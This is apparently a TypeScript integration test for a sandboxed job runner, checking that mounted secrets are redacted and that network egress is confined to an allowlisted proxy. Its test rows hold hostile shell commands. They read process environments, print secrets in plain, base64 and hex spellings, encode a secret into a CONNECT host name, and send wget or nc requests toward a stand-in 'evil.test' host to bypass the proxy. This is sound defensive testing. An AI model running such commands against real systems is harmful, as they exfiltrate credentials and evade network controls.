import { execFile } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import type { Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { verifyChain } from '@cairn/evidence';
import { uniqueName } from '@cairn/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isRunning, TestStack } from '../stack.harness.js';

/*
 * Hostile workloads that need the secret store and the egress allowlist, submitted through the
 * REST gateway of one isolated stack (`cairn up` with an operator policy that allowlists a sink),
 * all together at the start, as users would (one row goes in later, once the operator has turned
 * `allowPrivate` off and restarted the policy service). Each row asserts the run's final state and
 * error code, its safe outcome, that its chain verifies from genesis and that nothing of it is left
 * on the engine. The only servers any run may reach are the test's own: an HTTP sink in its own
 * container on its own network (counting every connection), and listeners on loopback and on the
 * sink network's gateway (counting theirs). Names resolve through CAIRN_EGRESS_HOSTS, never DNS.
 */

const exec = promisify(execFile);
const BUSYBOX = 'cairn/sandbox-busybox:1';
const CAPS = { wallSeconds: 10, memoryMiB: 32, pids: 32, diskMiB: 8, cpus: 0.5 };
const SINK_PORT = 8080;
const TEST_LABEL = 'io.cairn.test';
const testId = uniqueName('hostile-se').toLowerCase().replace(/_/g, '-');

/** A random value per secret, so a search cannot be fooled by another test's. */
const freshValue = () => `v${randomBytes(27).toString('base64url')}`;
/** Short enough that its hex spelling is one DNS label (at most 63 characters). */
const shortValue = () => `v${randomBytes(18).toString('base64url')}`;
/** A multi-line secret, as a PEM file is: one of its lines printed alone is the secret seen. */
const pemValue = () =>
  ['-----BEGIN CAIRN TEST KEY-----', randomBytes(48).toString('base64'), randomBytes(48).toString('base64'), '-----END CAIRN TEST KEY-----'].join('\n');
const SECRETS = {
  ENVIRON_TOKEN: freshValue(),
  LEAK_PLAIN: freshValue(),
  LEAK_BASE64: freshValue(),
  LEAK_HEX: freshValue(),
  LEAK_FILE: freshValue(),
  LEAK_NAME: freshValue(),
  LEAK_DIR: freshValue(),
  LEAK_HOST: shortValue(),
  LEAK_JSON: freshValue(),
  LEAK_NEWLINE: freshValue(),
  LEAK_PEM: pemValue(),
  SESSION_TOKEN: freshValue(),
  SESSION_STDERR: freshValue(),
};
type SecretName = keyof typeof SECRETS;
/** What a secret is sent as over REST, where it differs from its value (a trailing newline the route drops). */
const SENT: Partial<Record<SecretName, string>> = { LEAK_NEWLINE: `${SECRETS.LEAK_NEWLINE}\n` };
/** The sink's answer: a run that shows it reached the sink through the proxy. */
const SINK_TOKEN = `sink-ok-${randomBytes(8).toString('hex')}`;

/**
 * Every spelling of a value a search must not find: as is, base64 and base64url at each alignment,
 * hex in both cases; each line of a multi-line value on its own.
 */
function spellings(value: string): string[] {
  const bytes = Buffer.from(value, 'utf8');
  const out = [value, bytes.toString('hex'), bytes.toString('hex').toUpperCase()];
  if (value.includes('\n')) out.push(...value.split('\n').filter((line) => line.length >= 8 && !line.startsWith('-----')));
  for (const alphabet of ['base64', 'base64url'] as const) {
    for (let offset = 0; offset < 3; offset++) {
      const encoded = Buffer.concat([Buffer.alloc(offset), bytes]).toString(alphabet);
      // Only the characters that depend on the value alone (the edges mix in the neighbours' bits).
      out.push(encoded.slice(Math.ceil((8 * offset) / 6), Math.floor((8 * (offset + bytes.length)) / 6)));
    }
  }
  return [...new Set(out)];
}

/** A TCP listener the test owns, counting the connections it accepts. */
interface CountingListener {
  port: number;
  connections: () => number;
  close: () => Promise<void>;
}

async function countingListener(host: string): Promise<CountingListener> {
  let count = 0;
  const server: Server = createServer((socket) => {
    count++;
    socket.destroy();
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, host, () => resolve());
  });
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error(`the listener on ${host} has no port`);
  return { port: address.port, connections: () => count, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

/**
 * The sink: an HTTP server in the test's own container on the test's own network, run by busybox
 * `nc -ll -e`, so every TCP connection is counted (a bare connect too, before any byte is read) and
 * every request line is logged; it answers `SINK_TOKEN`.
 */
const SINK_HANDLER = [
  '#!/bin/sh',
  'echo conn >> /tmp/connections',
  'IFS= read -r first || exit 0',
  'echo "$first" >> /tmp/requests',
  'cr=$(printf "\\r")',
  'while IFS= read -r line; do if [ -z "$line" ] || [ "$line" = "$cr" ]; then break; fi; done',
  'body="$SINK_TOKEN"',
  'printf "HTTP/1.0 200 OK\\r\\nContent-Type: text/plain\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n%s\\n" $((${#body} + 1)) "$body"',
].join('\n');

interface Sink {
  ip: string;
  gateway: string;
  connections: () => Promise<number>;
  requests: () => Promise<string[]>;
}

let sinkName = '';

async function docker() {
  const { createDockerClient } = await import('@cairn/sandbox-docker');
  return createDockerClient();
}

async function startSink(): Promise<Sink> {
  const engine = await docker();
  sinkName = `cairn-${testId}-sink`;
  const network = await engine.createNetwork({ Name: sinkName, Driver: 'bridge', Labels: { [TEST_LABEL]: testId } });
  const script = `printf '%s\\n' "$HANDLER" > /tmp/handler && chmod 755 /tmp/handler && : > /tmp/connections && : > /tmp/requests && exec busybox nc -ll -p ${SINK_PORT} -e /tmp/handler`;
  const container = await engine.createContainer({
    name: sinkName,
    Image: BUSYBOX,
    Labels: { [TEST_LABEL]: testId },
    Env: [`HANDLER=${SINK_HANDLER}`, `SINK_TOKEN=${SINK_TOKEN}`],
    Entrypoint: ['sh', '-c', script],
    HostConfig: { NetworkMode: network.id, CapDrop: ['ALL'] },
  });
  await container.start();
  const inspected = await container.inspect();
  const settings = Object.values(inspected.NetworkSettings.Networks)[0];
  const ip = settings?.IPAddress ?? '';
  const gateway = settings?.Gateway ?? '';
  if (!/^\d+\.\d+\.\d+\.\d+$/.test(ip) || !/^\d+\.\d+\.\d+\.\d+$/.test(gateway)) throw new Error(`the sink has no IPv4 address: ${ip} / ${gateway}`);
  const read = async (file: string) => (await exec('docker', ['exec', sinkName, 'cat', file])).stdout;
  const sink: Sink = {
    ip,
    gateway,
    connections: async () => (await read('/tmp/connections')).split('\n').filter((line) => line === 'conn').length,
    requests: async () => (await read('/tmp/requests')).split('\n').filter((line) => line !== '').map((line) => line.trim()),
  };
  // It is there to be reached: the host gets its answer (one counted request, `/ready`).
  for (let i = 0; i < 50; i++) {
    const text = await fetch(`http://${ip}:${SINK_PORT}/ready`).then((r) => r.text(), () => '');
    if (text.includes(SINK_TOKEN)) return sink;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error('the sink did not answer');
}

async function removeTestContainers(): Promise<void> {
  const engine = await docker();
  const filters = { label: [`${TEST_LABEL}=${testId}`] };
  for (const c of await engine.listContainers({ all: true, filters })) await engine.getContainer(c.Id).remove({ force: true }).catch(() => undefined);
  for (const n of await engine.listNetworks({ filters })) await engine.getNetwork(n.Id).remove().catch(() => undefined);
}


// ── The rows ────────────────────────────────────────────────────────────────────────────────

interface Context {
  runId: string;
  receipts: Record<string, unknown>[];
  /** A step's kept stdout or stderr, read back from the artifact store by the hash its receipt names. */
  output: (index: number, stream: 'stdout' | 'stderr') => Promise<string>;
}

interface Row {
  id: string;
  title: string;
  /** The RunSpec without its name; `{{SINK_IP}}`, `{{LOOP_PORT}}`, `{{SELF_PORT}}` are filled in. */
  spec: Record<string, unknown>;
  state: 'SEALED' | 'ROLLBACK';
  errorCode: string | null;
  /** How many steps completed (a stopped run starts no step after the stopping one). */
  stepsCompleted: number;
  /** Submitted once the operator's policy no longer allows private addresses (policy restarted). */
  afterPolicyChange?: true;
  /** Whether the run got as far as `run.executed` (by default: exactly when it sealed SEALED). */
  executed?: boolean;
  check: (ctx: Context) => Promise<void>;
}

const EGRESS_TO_SINK = { egress: [`sink.test:${SINK_PORT}`] };

function run(steps: string[][], more: Record<string, unknown> = {}): Record<string, unknown> {
  return { image: BUSYBOX, caps: CAPS, network: 'none', steps: steps.map((argv) => ({ argv })), ...more };
}

const sh = (script: string) => ['sh', '-c', script];
const STILL_THERE = ['echo', 'still here'];
/** What busybox wget says when the egress proxy refuses it. */
const REFUSED_BY_PROXY = 'wget: server returned error: HTTP/1.1 403 Forbidden\n';
/** A request sent by hand to the proxy the sandbox was given (`HTTP_PROXY`): the CONNECT method. */
const viaProxy = (request: string) => sh(`p=\${HTTP_PROXY#http://}; p=\${p%/}; printf '${request}' | busybox nc -w 5 "\${p%:*}" "\${p##*:}"`);

let stack: TestStack;
let sink: Sink;
/** Every webhook delivery the stack made to the test's own receiver on loopback, as received. */
const deliveries: { type: string; chain: string; body: string }[] = [];
let hooks: Server | null = null;
let loopback: CountingListener;
let hostOwn: CountingListener;
let policyDir = '';
let policyFile = '';

/**
 * The built-in default policy, with an egress allowlist of the test's own hosts. allowPrivate at
 * first: the sink sits on a private (Docker bridge) address.
 */
async function writePolicy(allowPrivate: boolean): Promise<void> {
  const document = {
    version: 1,
    defaultImage: BUSYBOX,
    images: { allow: [{ name: BUSYBOX }] },
    caps: { defaults: { wallSeconds: 60, memoryMiB: 256, pids: 64, diskMiB: 256, cpus: 1 }, max: { wallSeconds: 600, memoryMiB: 4096, pids: 256, diskMiB: 8192, cpus: 4 } },
    network: { egress: 'allowlist', allow: [`sink.test:${SINK_PORT}`, `loop.test:${loopback.port}`, `self.test:${hostOwn.port}`], allowPrivate },
    approvals: { rules: [{ when: 'apply_step' }] },
    budgets: { runsPerJob: 6, jobMinutes: 90 },
  };
  await writeFile(policyFile, JSON.stringify(document));
}

function stepReceipt(receipts: readonly Record<string, unknown>[], index: number): Record<string, unknown> {
  const step = receipts.find((r) => r.type === 'step.completed' && r.step_index === index);
  if (step === undefined) throw new Error(`no step.completed for step ${index}: ${receipts.map((r) => String(r.type)).join(', ')}`);
  return step;
}

/** The exported chain file (`cairn export`), the REST events and the proof bundle of a run, as text. */
async function recordsOf(runId: string): Promise<[string, string][]> {
  const file = join(stack.home, `${runId}.search.jsonl`);
  const exported = await stack.cairn(['export', runId, '-o', file]);
  expect(exported.code, exported.stderr).toBe(0);
  const chain = await readFile(file, 'utf8');
  expect(chain.split('\n').filter((line) => line !== '').length).toBeGreaterThan(5);
  return [
    ['exported chain', chain],
    ['REST events', await (await stack.api(`/v1/runs/${runId}/events?after=0&limit=1000`)).text()],
    ['proof bundle', await (await stack.api(`/v1/runs/${runId}/bundle`)).text()],
  ];
}

function expectNoSpelling(where: string, text: string, secret: SecretName): void {
  for (const spelling of spellings(SECRETS[secret])) expect(text.includes(spelling), `${secret} (${spelling.slice(0, 6)}…) in ${where}`).toBe(false);
}

/**
 * A secret printed by step 0, or written into a collected file (found when the outputs are
 * collected, after the last step): redacted before hashing, recorded by name and pattern, a
 * critical alert, the run stopped ROLLBACK E_SECRET_SEEN (a printing step: before the next step
 * starts) — and the value, in any spelling, in none of the run's records nor in the step's output.
 */
async function expectCaught(ctx: Context, secret: SecretName, finding: { where: 'stdout' | 'stderr' | 'file'; pattern: string; path?: string }): Promise<void> {
  const { receipts } = ctx;
  const redacted = receipts.filter((r) => r.type === 'secret.redacted');
  expect(redacted).toContainEqual(expect.objectContaining({ ...finding, secret, count: 1 }));
  for (const r of redacted) expect(r.secret).toBe(secret);
  expect(receipts.find((r) => r.type === 'alert.raised')).toMatchObject({ severity: 'critical', error_code: 'E_SECRET_SEEN' });
  expect(receipts.at(-1)).toMatchObject({ type: 'run.sealed', final_state: 'ROLLBACK', error_code: 'E_SECRET_SEEN' });
  const failed = receipts.find((r) => r.type === 'run.failed');
  if (finding.where === 'file') {
    expect(failed).toMatchObject({ error_code: 'E_SECRET_SEEN' });
    expect(failed?.message).toMatch(/^collecting the outputs: /);
  } else {
    expect(failed).toMatchObject({ error_code: 'E_SECRET_SEEN', step_index: 0 });
    const step = stepReceipt(receipts, 0);
    expect(step.error_code).toBe('E_SECRET_SEEN');
    expect(step.redactions).toContainEqual(expect.objectContaining({ stream: finding.where, pattern: finding.pattern, secret, count: 1 }));
    expect(receipts.filter((r) => r.type === 'step.started')).toHaveLength(1);
  }
  for (const [where, text] of await recordsOf(ctx.runId)) expectNoSpelling(where, text, secret);
  for (const stream of ['stdout', 'stderr'] as const) expectNoSpelling(`step 0 ${stream}`, await ctx.output(0, stream), secret);
}

/**
 * A secret in what the run would have recorded beyond its output — a file or directory name, an
 * egress host, a value a check quotes: redacted where it stood, recorded by `secret.redacted`
 * (where `receipt`, the receipt type and field), a critical alert, the run ROLLBACK E_SECRET_SEEN —
 * and the value, in any spelling, in none of the run's records.
 */
async function expectLeakCaught(ctx: Context, secret: SecretName, finding: Record<string, unknown>): Promise<void> {
  const { receipts } = ctx;
  const redacted = receipts.filter((r) => r.type === 'secret.redacted');
  expect(redacted).toContainEqual(expect.objectContaining({ ...finding, secret }));
  expect(receipts.find((r) => r.type === 'alert.raised')).toMatchObject({ severity: 'critical', error_code: 'E_SECRET_SEEN' });
  expect(receipts.find((r) => r.type === 'run.failed')).toMatchObject({ error_code: 'E_SECRET_SEEN' });
  expect(receipts.at(-1)).toMatchObject({ type: 'run.sealed', final_state: 'ROLLBACK', error_code: 'E_SECRET_SEEN' });
  for (const [where, text] of await recordsOf(ctx.runId)) expectNoSpelling(where, text, secret);
}

/** A shell snippet that prints a secret's bytes as JSON `\u00XX` escapes (what a JSON reader decodes). */
const JSON_ESCAPED = (name: string) => `od -A n -t x1 /run/secrets/${name} | awk '{for(i=1;i<=NF;i++) printf "\\\\u00%s", $i}'`;

const ROWS: readonly Row[] = [
  // ── Secrets: in no environment; printed in any spelling, redacted and the run stopped ────
  {
    id: 'secret-proc-environ',
    title: 'reading /proc/1/environ and every /proc/*/environ while a secret is mounted',
    spec: run(
      [
        // The secret is there: its length and digest (not its value) show it.
        sh('wc -c < /run/secrets/ENVIRON_TOKEN; sha256sum /run/secrets/ENVIRON_TOKEN | cut -c1-64'),
        sh('tr "\\000" "\\n" < /proc/1/environ'),
        sh('for f in /proc/[0-9]*/environ /proc/self/environ; do tr "\\000" "\\n" < "$f"; done | sort -u'),
      ],
      { secrets: ['ENVIRON_TOKEN'] },
    ),
    state: 'SEALED',
    errorCode: null,
    stepsCompleted: 3,
    check: async (ctx) => {
      const value = SECRETS.ENVIRON_TOKEN;
      expect((await ctx.output(0, 'stdout')).split('\n').map((line) => line.trim())).toEqual([String(Buffer.byteLength(value)), createHash('sha256').update(value).digest('hex'), '']);
      const init = await ctx.output(1, 'stdout');
      const every = await ctx.output(2, 'stdout');
      expect(init).toMatch(/^PATH=/m);
      expect(every).toMatch(/^PATH=/m);
      for (const [where, text] of [['/proc/1/environ', init], ['/proc/*/environ', every]] as const) {
        expectNoSpelling(where, text, 'ENVIRON_TOKEN');
        expect(text).not.toContain('[REDACTED');
        expect(text).not.toMatch(/CAIRN_|ENVIRON_TOKEN|secrets/);
      }
      for (const index of [1, 2]) expect(stepReceipt(ctx.receipts, index)).toMatchObject({ exit_code: 0 });
      // Nothing leaked, so nothing was redacted or raised.
      expect(ctx.receipts.filter((r) => r.type === 'secret.redacted' || r.type === 'alert.raised')).toEqual([]);
      for (const [where, text] of await recordsOf(ctx.runId)) expectNoSpelling(where, text, 'ENVIRON_TOKEN');
    },
  },
  {
    id: 'secret-print-plain',
    title: 'printing a secret plainly',
    spec: run([['cat', '/run/secrets/LEAK_PLAIN'], ['echo', 'never']], { secrets: ['LEAK_PLAIN'] }),
    state: 'ROLLBACK',
    errorCode: 'E_SECRET_SEEN',
    stepsCompleted: 1,
    check: async (ctx) => {
      await expectCaught(ctx, 'LEAK_PLAIN', { where: 'stdout', pattern: 'secret.plain' });
      expect(await ctx.output(0, 'stdout')).toBe('[REDACTED:LEAK_PLAIN]');
    },
  },
  {
    // Two bytes in front shift the value to another base64 alignment: not a plain base64 of the value.
    id: 'secret-print-base64',
    title: 'printing a secret base64-encoded, shifted by a prefix',
    spec: run([sh('{ printf xy; cat /run/secrets/LEAK_BASE64; } | base64'), ['echo', 'never']], { secrets: ['LEAK_BASE64'] }),
    state: 'ROLLBACK',
    errorCode: 'E_SECRET_SEEN',
    stepsCompleted: 1,
    check: async (ctx) => {
      await expectCaught(ctx, 'LEAK_BASE64', { where: 'stdout', pattern: 'secret.base64' });
      expect(await ctx.output(0, 'stdout')).toContain('[REDACTED:LEAK_BASE64]');
    },
  },
  {
    id: 'secret-print-hex',
    title: 'printing a secret hex-encoded',
    spec: run([sh('od -A n -t x1 /run/secrets/LEAK_HEX | tr -d " \\n"'), ['echo', 'never']], { secrets: ['LEAK_HEX'] }),
    state: 'ROLLBACK',
    errorCode: 'E_SECRET_SEEN',
    stepsCompleted: 1,
    check: async (ctx) => {
      await expectCaught(ctx, 'LEAK_HEX', { where: 'stdout', pattern: 'secret.hex' });
      expect(await ctx.output(0, 'stdout')).toBe('[REDACTED:LEAK_HEX]');
    },
  },
  {
    id: 'secret-out-file',
    title: 'writing a secret into a collected /out file',
    spec: run([sh('printf \'{"token":"%s"}\\n\' "$(cat /run/secrets/LEAK_FILE)" > /out/config.json && echo written'), ['echo', 'never']], {
      secrets: ['LEAK_FILE'],
      outputs: ['/out'],
    }),
    state: 'ROLLBACK',
    errorCode: 'E_SECRET_SEEN',
    // Outputs are collected after the last step: both steps ran, and the collection stopped the run.
    stepsCompleted: 2,
    check: async (ctx) => {
      await expectCaught(ctx, 'LEAK_FILE', { where: 'file', pattern: 'secret.plain', path: '/out/config.json' });
      expect(await ctx.output(0, 'stdout')).toBe('written\n');
    },
  },

  // ── Secrets in what the run records besides its output (issue 13): names, hosts, decoded values ──
  {
    id: 'secret-file-name',
    title: 'naming a collected /out file after a secret',
    spec: run([sh('touch "/out/$(cat /run/secrets/LEAK_NAME)" && echo made'), ['echo', 'after']], { secrets: ['LEAK_NAME'], outputs: ['/out'] }),
    state: 'ROLLBACK',
    errorCode: 'E_SECRET_SEEN',
    stepsCompleted: 2,
    check: async (ctx) => {
      await expectLeakCaught(ctx, 'LEAK_NAME', { where: 'receipt', receipt_type: 'run.executed', field: 'artifact_hashes', in_key: true, pattern: 'secret.plain' });
      expect(ctx.receipts.some((r) => r.type === 'run.executed')).toBe(false);
    },
  },
  {
    id: 'secret-dir-name',
    title: 'naming a directory under /out after a secret',
    spec: run([sh('d="/out/$(cat /run/secrets/LEAK_DIR)"; mkdir -p "$d" && echo inside > "$d/f.txt" && echo made')], { secrets: ['LEAK_DIR'], outputs: ['/out'] }),
    state: 'ROLLBACK',
    errorCode: 'E_SECRET_SEEN',
    stepsCompleted: 1,
    check: async (ctx) => {
      await expectLeakCaught(ctx, 'LEAK_DIR', { where: 'receipt', receipt_type: 'run.executed', field: 'artifact_hashes', in_key: true });
    },
  },
  {
    // The proxy refuses the host and would record it: the host is the secret, hex-encoded, as one label.
    id: 'secret-egress-host',
    title: 'a CONNECT to a host name spelling a secret in hex',
    spec: run(
      [
        sh(`h=$(od -A n -t x1 /run/secrets/LEAK_HOST | tr -d " \\n"); p=\${HTTP_PROXY#http://}; p=\${p%/}; printf "CONNECT $h.x:1 HTTP/1.1\\r\\nHost: $h.x:1\\r\\n\\r\\n" | busybox nc -w 5 "\${p%:*}" "\${p##*:}"; echo sent`),
        ['echo', 'never'],
      ],
      { secrets: ['LEAK_HOST'], network: EGRESS_TO_SINK },
    ),
    state: 'ROLLBACK',
    errorCode: 'E_SECRET_SEEN',
    stepsCompleted: 1,
    check: async (ctx) => {
      await expectLeakCaught(ctx, 'LEAK_HOST', { where: 'receipt', receipt_type: 'egress.denied', field: 'host', pattern: 'secret.hex' });
      const denied = ctx.receipts.filter((r) => r.type === 'egress.denied');
      expect(denied.map((r) => r.host)).toEqual(['[REDACTED:LEAK_HOST].x']);
    },
  },
  {
    // The raw file holds only `\u00XX` escapes (nothing the runtime's scan can see); the verifier's
    // check reads the JSON, decodes the value and would quote it: it is scanned there.
    id: 'secret-json-decoded',
    title: 'a JSON output whose escaped string decodes to a secret, quoted by a check',
    spec: run([sh(`printf '{"token":"%s"}' "$(${JSON_ESCAPED('LEAK_JSON')})" > /out/r.json && echo written`)], {
      secrets: ['LEAK_JSON'],
      outputs: ['/out'],
      claim: { statement: 'the token is not set', checks: [{ id: 'token-unset', source: 'artifacts["/out/r.json"].json.token', op: 'eq', value: 'unset' }] },
    }),
    state: 'ROLLBACK',
    errorCode: 'E_SECRET_SEEN',
    stepsCompleted: 1,
    // The runtime saw nothing it could find: the run was executed, and the verifier stopped it.
    executed: true,
    check: async (ctx) => {
      await expectLeakCaught(ctx, 'LEAK_JSON', { where: 'receipt', receipt_type: 'verification.completed', field: 'checks', pattern: 'secret.plain' });
      expect(ctx.receipts.some((r) => r.type === 'verification.completed')).toBe(false);
      expect(ctx.receipts.find((r) => r.type === 'run.failed')).toMatchObject({ actor: 'verifier' });
    },
  },
  {
    id: 'secret-newline-terminated',
    title: 'a secret stored with a trailing newline, printed with echo $(cat …)',
    spec: run([sh('echo "value: $(cat /run/secrets/LEAK_NEWLINE)"'), ['echo', 'never']], { secrets: ['LEAK_NEWLINE'] }),
    state: 'ROLLBACK',
    errorCode: 'E_SECRET_SEEN',
    stepsCompleted: 1,
    check: async (ctx) => {
      await expectCaught(ctx, 'LEAK_NEWLINE', { where: 'stdout', pattern: 'secret.plain' });
      expect(await ctx.output(0, 'stdout')).toBe('value: [REDACTED:LEAK_NEWLINE]\n');
    },
  },
  {
    id: 'secret-pem-line',
    title: 'printing one line of a multi-line (PEM) secret',
    spec: run([sh('sed -n 2p /run/secrets/LEAK_PEM'), ['echo', 'never']], { secrets: ['LEAK_PEM'] }),
    state: 'ROLLBACK',
    errorCode: 'E_SECRET_SEEN',
    stepsCompleted: 1,
    check: async (ctx) => {
      await expectCaught(ctx, 'LEAK_PEM', { where: 'stdout', pattern: 'secret.line' });
      expect(await ctx.output(0, 'stdout')).toBe('[REDACTED:LEAK_PEM]\n');
    },
  },

  // ── Egress: only through the proxy, only to what the run was granted ─────────────────────
  {
    // The run has a way out (the proxy); straight to the sink's address, by-passing it, there is none.
    id: 'egress-direct-with-allowlist',
    title: 'a direct connection to the sink from a run that has an allowlist',
    spec: run(
      [
        sh(`printf 'GET /direct-nc HTTP/1.0\\r\\n\\r\\n' | busybox nc -w 2 {{SINK_IP}} ${SINK_PORT}`),
        ['busybox', 'timeout', '3', 'busybox', 'wget', '-Y', 'off', '-q', '-O', '-', `http://{{SINK_IP}}:${SINK_PORT}/direct-wget`],
        ['busybox', 'timeout', '3', 'busybox', 'wget', '-Y', 'off', '-q', '-O', '-', `http://sink.test:${SINK_PORT}/direct-name`],
        STILL_THERE,
      ],
      { network: EGRESS_TO_SINK },
    ),
    state: 'SEALED',
    errorCode: null,
    stepsCompleted: 4,
    check: async (ctx) => {
      // Dropped or refused, never answered: nc gives up (timed out, or refused by the firewall) …
      expect(stepReceipt(ctx.receipts, 0).exit_code).toBe(1);
      expect(await ctx.output(0, 'stderr')).toMatch(/^nc: (timed out|can't connect to remote host \([0-9.]+\): Connection refused)\n$/);
      // … wget hangs until `timeout` kills it (143), or fails at once naming why. By name there is
      // no resolver in the sandbox: a name is only a name to the proxy.
      for (const [index, failure] of [[1, /can't connect to remote host/], [2, /bad address 'sink\.test(:8080)?'/]] as const) {
        const step = stepReceipt(ctx.receipts, index);
        expect(step.exit_code, `step ${index}`).not.toBe(0);
        if (step.exit_code !== 143) expect(await ctx.output(index, 'stderr')).toMatch(failure);
      }
      expect(stepReceipt(ctx.receipts, 3)).toMatchObject({ exit_code: 0 });
      expect(await ctx.output(3, 'stdout')).toBe('still here\n');
      // The proxy never saw any of it; the sink neither.
      expect(ctx.receipts.filter((r) => r.type === 'egress.denied')).toEqual([]);
      expect((await sink.requests()).filter((line) => line.includes('/direct-'))).toEqual([]);
    },
  },
  {
    id: 'egress-proxied-denied',
    title: 'proxied requests to a host not on the run’s allowlist (by name, by CONNECT, by the sink’s address)',
    spec: run(
      [
        ['busybox', 'wget', '-q', '-O', '-', `http://evil.test:${SINK_PORT}/denied-name`],
        viaProxy(`CONNECT evil.test:${SINK_PORT} HTTP/1.1\\r\\nHost: evil.test:${SINK_PORT}\\r\\n\\r\\nGET /denied-connect HTTP/1.0\\r\\n\\r\\n`),
        ['busybox', 'wget', '-q', '-O', '-', `http://{{SINK_IP}}:${SINK_PORT}/denied-ip`],
        STILL_THERE,
      ],
      { network: EGRESS_TO_SINK },
    ),
    state: 'SEALED',
    errorCode: null,
    stepsCompleted: 4,
    check: async (ctx) => {
      expect(stepReceipt(ctx.receipts, 0).exit_code).not.toBe(0);
      expect(await ctx.output(0, 'stderr')).toBe(REFUSED_BY_PROXY);
      expect(await ctx.output(1, 'stdout')).toMatch(/^HTTP\/1\.1 403 Forbidden\r\n[\s\S]*refused \(E_EGRESS, not_allowlisted\)/);
      expect(stepReceipt(ctx.receipts, 2).exit_code).not.toBe(0);
      expect(await ctx.output(2, 'stderr')).toBe(REFUSED_BY_PROXY);
      expect(await ctx.output(3, 'stdout')).toBe('still here\n');
      const denied = ctx.receipts.filter((r) => r.type === 'egress.denied');
      expect(denied.map((r) => [r.host, r.port, r.reason, r.error_code, r.step_index])).toEqual([
        ['evil.test', SINK_PORT, 'not_allowlisted', 'E_EGRESS', 0],
        ['evil.test', SINK_PORT, 'not_allowlisted', 'E_EGRESS', 1],
        [sink.ip, SINK_PORT, 'not_allowlisted', 'E_EGRESS', 2],
      ]);
      // Recorded while the run went on: before its sandbox went, and it still sealed.
      const types = ctx.receipts.map((r) => r.type);
      expect(types.lastIndexOf('egress.denied')).toBeLessThan(types.indexOf('sandbox.destroyed'));
      expect((await sink.requests()).filter((line) => line.includes('/denied-'))).toEqual([]);
    },
  },
  {
    // The positive control: the same sink, asked for by its granted name, answers through the proxy.
    id: 'egress-proxied-allowed',
    title: 'proxied requests to the allowlisted sink (plain HTTP and a CONNECT tunnel)',
    spec: run(
      [
        ['busybox', 'wget', '-q', '-O', '-', `http://sink.test:${SINK_PORT}/allowed-plain`],
        viaProxy(`CONNECT sink.test:${SINK_PORT} HTTP/1.1\\r\\nHost: sink.test:${SINK_PORT}\\r\\n\\r\\nGET /allowed-connect HTTP/1.0\\r\\n\\r\\n`),
        STILL_THERE,
      ],
      { network: EGRESS_TO_SINK },
    ),
    state: 'SEALED',
    errorCode: null,
    stepsCompleted: 3,
    check: async (ctx) => {
      expect(stepReceipt(ctx.receipts, 0).exit_code).toBe(0);
      expect(await ctx.output(0, 'stdout')).toBe(`${SINK_TOKEN}\n`);
      const tunnel = await ctx.output(1, 'stdout');
      expect(tunnel).toMatch(/^HTTP\/1\.1 200 /);
      expect(tunnel).toContain(SINK_TOKEN);
      expect(ctx.receipts.filter((r) => r.type === 'egress.denied')).toEqual([]);
      expect(ctx.receipts.find((r) => r.type === 'policy.decided')).toMatchObject({ network: { egress: [`sink.test:${SINK_PORT}`], allow_private: true } });
      expect(ctx.receipts.find((r) => r.type === 'sandbox.created')).toMatchObject({ network: 'egress_proxy' });
      const requests = await sink.requests();
      expect(requests).toContain('GET /allowed-plain HTTP/1.1');
      expect(requests).toContain('GET /allowed-connect HTTP/1.0');
    },
  },
  {
    // Granted names, but they resolve into the host: loopback, and the worker's own (private)
    // address. Refused even though this stack's policy allows private addresses.
    id: 'egress-name-to-host-address',
    title: 'granted names mapped to loopback and to the worker host’s own address',
    spec: run(
      [
        ['busybox', 'wget', '-q', '-O', '-', 'http://loop.test:{{LOOP_PORT}}/'],
        ['busybox', 'wget', '-q', '-O', '-', 'http://self.test:{{SELF_PORT}}/'],
        viaProxy('CONNECT loop.test:{{LOOP_PORT}} HTTP/1.1\\r\\nHost: loop.test:{{LOOP_PORT}}\\r\\n\\r\\n'),
        STILL_THERE,
      ],
      { network: { egress: ['loop.test:{{LOOP_PORT}}', 'self.test:{{SELF_PORT}}'] } },
    ),
    state: 'SEALED',
    errorCode: null,
    stepsCompleted: 4,
    check: async (ctx) => {
      for (const index of [0, 1]) {
        expect(stepReceipt(ctx.receipts, index).exit_code, `step ${index}`).not.toBe(0);
        expect(await ctx.output(index, 'stderr')).toBe(REFUSED_BY_PROXY);
      }
      expect(await ctx.output(2, 'stdout')).toMatch(/^HTTP\/1\.1 403 Forbidden\r\n[\s\S]*refused \(E_EGRESS, private_address\): loop\.test resolves to/);
      expect(await ctx.output(3, 'stdout')).toBe('still here\n');
      const denied = ctx.receipts.filter((r) => r.type === 'egress.denied');
      expect(denied.map((r) => [r.host, r.port, r.reason, r.error_code, r.step_index])).toEqual([
        ['loop.test', loopback.port, 'private_address', 'E_EGRESS', 0],
        ['self.test', hostOwn.port, 'private_address', 'E_EGRESS', 1],
        ['loop.test', loopback.port, 'private_address', 'E_EGRESS', 2],
      ]);
      expect(loopback.connections()).toBe(0);
      expect(hostOwn.connections()).toBe(0);
    },
  },
  {
    // The operator turns allowPrivate off (a new policy document, the policy service restarted):
    // the very sink the positive control reaches, by the same granted name, is now refused.
    id: 'egress-private-without-allowprivate',
    title: 'the allowlisted sink (a private address) once the policy no longer allows private addresses',
    afterPolicyChange: true,
    spec: run(
      [
        ['busybox', 'wget', '-q', '-O', '-', `http://sink.test:${SINK_PORT}/private-plain`],
        viaProxy(`CONNECT sink.test:${SINK_PORT} HTTP/1.1\\r\\nHost: sink.test:${SINK_PORT}\\r\\n\\r\\nGET /private-connect HTTP/1.0\\r\\n\\r\\n`),
        STILL_THERE,
      ],
      { network: EGRESS_TO_SINK },
    ),
    state: 'SEALED',
    errorCode: null,
    stepsCompleted: 3,
    check: async (ctx) => {
      const decided = ctx.receipts.find((r) => r.type === 'policy.decided');
      expect(decided).toMatchObject({ decision: 'allow', network: { egress: [`sink.test:${SINK_PORT}`], allow_private: false } });
      // Another policy document decided it than the one that let the positive control through.
